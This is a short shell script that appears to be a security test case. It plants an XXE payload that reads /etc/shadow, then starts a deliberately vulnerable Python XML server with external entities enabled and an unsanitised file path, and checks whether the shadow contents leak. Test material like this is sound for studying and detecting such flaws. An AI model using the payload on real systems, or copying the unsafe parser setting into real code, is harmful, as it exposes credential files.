#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/up && echo '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY e SYSTEM "file:///etc/shadow">]><o>&e;</o>' >/srv/up/order.xml
cat >/srv/app/orders.py <<'END'
import http.server, io, xml.sax, xml.sax.handler
class Text(xml.sax.handler.ContentHandler):
    def __init__(self): self.s = ""
    def characters(self, c): self.s += c
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        t = Text(); p = xml.sax.make_parser(); p.setFeature(xml.sax.handler.feature_external_ges, True); p.setContentHandler(t)
        p.parse("/srv/up/" + self.path.split("doc=")[1].split()[0])
        self.send_response(200); self.end_headers(); self.wfile.write(t.s.encode()); open("/srv/app/log", "w").write(str("root:" in t.s))
http.server.HTTPServer(("", 8098), H).serve_forever()
END
cd /srv/app && python3 orders.py 2>/dev/null & server=$!
wait_for /srv/app/log; sleep 0.3
kill $server
grep -q True /srv/app/log
took_place
